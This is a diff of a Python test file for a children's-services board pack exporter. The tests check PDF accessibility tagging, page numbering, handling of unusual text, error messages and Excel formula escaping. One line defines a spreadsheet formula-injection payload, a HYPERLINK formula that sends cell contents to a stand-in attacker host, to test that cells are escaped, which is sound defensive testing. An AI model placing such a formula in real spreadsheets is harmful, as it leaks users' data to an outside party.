@@ -1,4 +1,5 @@
-"""The board pack read back: PDF sections, statuses and counts match the status report; Excel rows and escaping."""
+"""The board pack read back: PDF sections, statuses and counts match the status report; its tags (PDF/UA-1), front
+matter and hostile content; the page that offers it; Excel rows and escaping."""
 
 from __future__ import annotations
 
@@ -6,22 +7,30 @@ import io
 import json
 import re
 from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
 
 import pytest
+import streamlit as st
 from click.testing import CliRunner
 from openpyxl import load_workbook
 from pypdf import PdfReader
+from streamlit.testing.v1 import AppTest
 
-from cyp.board.data import board_data, counts_sentence
+from cyp.access.permissions import Principal
+from cyp.board.data import BoardPackError, board_data, counts_sentence, outcome_chart_frame
 from cyp.board.excel import INDICATOR_SHEET_COLUMNS, board_pack_xlsx, escape_cell
-from cyp.board.pdf import FONT_DIR, board_pack_pdf
+from cyp.board.pdf import FONT_DIR, board_pack_pdf, printable, typeset
 from cyp.bootstrap import initialise_database
 from cyp.cli import cli
-from cyp.read.charts import status_label
+from cyp.read.charts import distribution_description, distribution_rows, status_label
 from cyp.read.reports import status_report
 from cyp.storage.db import make_engine, read_session, write_session
 from cyp.storage.models import Meta
+from cyp.ui import PRINCIPAL_KEY
 from tests.readside_factory import add_return
+
+ROOT = Path(__file__).resolve().parent.parent
 
 QUARTER = "2022-23 Q4"
 MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -119,9 +128,166 @@ def test_pdf_has_commentary_for_red_and_amber_lines_charts_exceptions_and_submis
     assert "Completed and signed off." not in text  # a Blue line's progress is not commentary
     assert "Red lines (1)" in text and "Worse than last quarter (2)" in text  # 1.2 Green→Red, 1.3 Green→Amber
     assert "Family Services" in text and "a.lee" in text  # the submission status table
+    figures = [element for element in structure(pdf) if element["/S"] == "/Figure"]
+    # The overview chart, a status chart per outcome (seven) and one chart for the one indicator with a value.
+    assert len(figures) == 9
+
+
+def structure(content: bytes) -> list[Any]:
+    """Every structure element of the PDF's tag tree, in reading order."""
+    root = PdfReader(io.BytesIO(content)).trailer["/Root"]
+    found: list[Any] = []
+
+    def walk(node: Any) -> None:
+        node = node.get_object() if hasattr(node, "get_object") else node
+        if isinstance(node, dict):
+            if "/S" in node:
+                found.append(node)
+            if "/K" in node:
+                walk(node["/K"])
+        elif isinstance(node, list):
+            for kid in node:
+                walk(kid)
+
+    walk(root["/StructTreeRoot"])
+    return found
+
+
+def test_pdf_is_tagged_for_pdf_ua(pdf, pack_db):
     reader = PdfReader(io.BytesIO(pdf))
-    images = sum(len(page.images) for page in reader.pages)
-    assert images >= 8  # the overview chart and a status chart per outcome (seven), rendered by vl-convert
+    root = reader.trailer["/Root"]
+    assert "/StructTreeRoot" in root
+    assert root["/MarkInfo"]["/Marked"] == True  # noqa: E712 - a pypdf BooleanObject, not the bool
+    assert root["/Lang"] == "en-GB"
+    assert root["/ViewerPreferences"]["/DisplayDocTitle"] == True  # noqa: E712
+    assert b"<pdfuaid:part>1</pdfuaid:part>" in root["/Metadata"].get_object().get_data()
+    elements = structure(pdf)
+    kinds = {element["/S"] for element in elements}
+    assert {"/H1", "/H2", "/H3", "/P", "/L", "/LI", "/Table", "/TH", "/TD", "/Figure", "/TOC"} <= kinds
+    # Every chart carries its description as alt text: the same words the chart builders give the pages.
+    alts = [str(element.get("/Alt", "")) for element in elements if element["/S"] == "/Figure"]
+    assert alts and all(alt.strip() for alt in alts)
+    engine, _url = pack_db
+    with read_session(engine) as session:
+        data = board_data(session, QUARTER)
+    rows, groups = distribution_rows(outcome_chart_frame(data))
+    assert alts[0] == distribution_description(rows, groups, "Lines by status, per outcome")
+    assert any(alt.startswith("19-SS-I1 ") and "2022-23 Q4 42" in alt for alt in alts)
+    # Headings in reading order: the contents, the overview, then each outcome's own sections.
+    headings = [element for element in elements if element["/S"] in ("/H1", "/H2")]
+    assert headings[0]["/S"] == "/H1" and headings[1]["/S"] == "/H1"  # "Contents", "Overview"
+
+
+def test_front_matter_contents_and_page_numbers(pdf):
+    reader = PdfReader(io.BytesIO(pdf))
+    pages = [" ".join(page.extract_text().split()) for page in reader.pages]
+    total = len(pages)
+    for number, text in enumerate(pages, start=1):
+        assert text.endswith(f"page {number} of {total}"), number  # every page footed with its own number
+        body = text.removesuffix(f"CYP Plan 2019-23 · Board pack {QUARTER} · page {number} of {total}").strip()
+        assert len(body) > 20, f"page {number} is blank"
+    assert pages[0].startswith("Barnet Children and Young People's Plan Board pack: 2022-23 Q4")
+    assert pages[1].startswith("Contents Overview")
+    # Each contents entry names the page its bookmark opens at.
+    for item in reader.outline:
+        if isinstance(item, list):
+            continue
+        page = reader.get_destination_page_number(item) + 1
+        assert re.search(rf"{re.escape(item.title)} \.+ {page}\b", pages[1]), item.title
+        assert item.title in pages[page - 1]
+
+
+def test_no_word_is_split_inside_a_table_cell(pdf):
+    lines = [line.strip() for page in PdfReader(io.BytesIO(pdf)).pages for line in page.extract_text().splitlines()]
+    headers = "Indicator Name Latest Value Target Status Direction"
+    assert any(line == headers for line in lines)
+    assert any(line.startswith("Team State Lines Due Submitted (UTC) By Version") for line in lines)
+    for word in ("Direction", "Submitted", "Progress", "Amber", "return"):
+        assert not any(line.endswith(word[:-1]) for line in lines), word
+
+
+HOSTILE = {
+    "long": "The waiting list grew again. " * 700,  # about 20,000 characters of prose
+    "word": "x" * 20000,  # one word of 20,000 letters: a row taller than a page, in a column it must wrap in
+    "mixed": "Emoji 😀👍🏽🇬🇧 RTL שלום עליכם مرحبا combining e\u0301\u0302 NUL\x00 BEL\x07 ESC\x1b C1\x9b end.",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory):
+    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'cyp.db'}"
+    engine = make_engine(url)
+    initialise_database(engine)
+    with write_session(engine) as session:
+        add_return(
+            session,
+            "family-services",
+            QUARTER,
+            {
+                "19-FB-1.2": ("Red", HOSTILE["long"]),
+                "19-FB-1.3": ("Red", HOSTILE["word"]),
+                "19-FB-1.4": ("Amber", HOSTILE["mixed"]),
+            },
+        )
+    yield engine
+    engine.dispose()
+
+
+def test_the_pack_never_fails_on_content(hostile_db, pdf):
+    with read_session(hostile_db) as session:
+        content = board_pack_pdf(session, QUARTER)
+    reader = PdfReader(io.BytesIO(content))
+    assert len(reader.pages) >= len(PdfReader(io.BytesIO(pdf)).pages) + 10  # the long texts run over pages
+    text = pdf_text(content)
+    # In the commentary and the Red lines table (a sentence a page break cuts does not count).
+    assert text.count("The waiting list grew again.") >= 2 * 690
+    assert "שלום" in text and "مرحبا" in text and "end." in text
+    assert "NUL BEL ESC C1 end." in text  # control characters dropped, nothing else lost
+    # DejaVu Sans draws 😀; no font here draws 👍🏽 or 🇬🇧: one replacement mark for the run, never an error.
+    assert "Emoji 😀\ufffd RTL" in text
+    assert text.count("x") >= 2 * 20000  # the 20,000-letter word is all there, wrapped over lines and pages
+
+
+def test_printable_keeps_what_it_can_and_drops_what_no_pdf_can_hold():
+    assert printable("  two\n\nlines\t") == "two lines"
+    assert printable("a\ud800b\x00c\x7f") == "abc"  # a lone surrogate, NUL and DEL
+    assert printable("e\u0301 שלום") == "e\u0301 שלום"
+    assert printable("漢字 and สวัสดี") == "\ufffd and \ufffd"
+    assert printable("y" * 45) == "y" * 20 + "\u200b" + "y" * 20 + "\u200b" + "y" * 5
+    assert printable(None) == "" and printable(float("nan")) == ""
+
+
+def test_a_pack_that_cannot_be_typeset_raises_a_board_pack_error(pdf, monkeypatch, tmp_path):
+    with pytest.raises(BoardPackError, match="could not be typeset"):
+        typeset({"title": "no cover, no blocks"})
+    monkeypatch.setattr("cyp.board.pdf.TYPESETTER", tmp_path / "missing.py")
+    with pytest.raises(BoardPackError, match="could not be typeset"):
+        typeset({"title": "x"})
+
+
+def test_board_pack_page_offers_both_files_or_says_why_not(pack_db, monkeypatch):
+    _engine, url = pack_db
+    monkeypatch.setenv("CYP_DATABASE_URL", url)
+
+    def page() -> AppTest:
+        st.cache_data.clear()
+        st.cache_resource.clear()
+        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
+        at.session_state[PRINCIPAL_KEY] = Principal("director", "viewer")
+        at.run()
+        at.query_params["quarter"] = QUARTER
+        at.switch_page("app_pages/board_pack.py")
+        at.run()
+        assert not at.exception, [e.value for e in at.exception]
+        return at
+
+    at = page()
+    assert [button.proto.label for button in at.get("download_button")] == ["Board pack (PDF)", "Board data (Excel)"]
+    assert not at.error
+    monkeypatch.setattr("cyp.board.pdf.TYPESETTER", ROOT / "no-such-typesetter.py")
+    at = page()
+    assert [button.proto.label for button in at.get("download_button")] == ["Board data (Excel)"]
+    assert "The Board pack (PDF) could not be built: the PDF could not be typeset" in at.error[0].value
 
 
 def test_xlsx_has_every_line_with_context_and_escapes_formulas(pack_db):
@@ -185,3 +351,13 @@ def test_export_command_writes_excel_and_refuses_other_extensions(pack_db, monke
     assert bad.exit_code == 2 and "must end in .pdf or .xlsx" in bad.output
     unknown = CliRunner().invoke(cli, ["export", "--quarter", QUARTER, "--out", str(out), "--plan", "nope"])
     assert unknown.exit_code == 1 and "There is no plan 'nope'" in unknown.output
+
+
+def test_export_command_says_why_a_pack_cannot_be_built(pack_db, monkeypatch, tmp_path):
+    _engine, url = pack_db
+    monkeypatch.setenv("CYP_DATABASE_URL", url)
+    monkeypatch.setattr("cyp.board.pdf.TYPESETTER", tmp_path / "missing.py")
+    result = CliRunner().invoke(cli, ["export", "--quarter", QUARTER, "--out", str(tmp_path / "pack.pdf")])
+    assert result.exit_code == 1
+    assert "The board pack could not be built: the PDF could not be typeset" in result.output
+    assert not (tmp_path / "pack.pdf").exists()
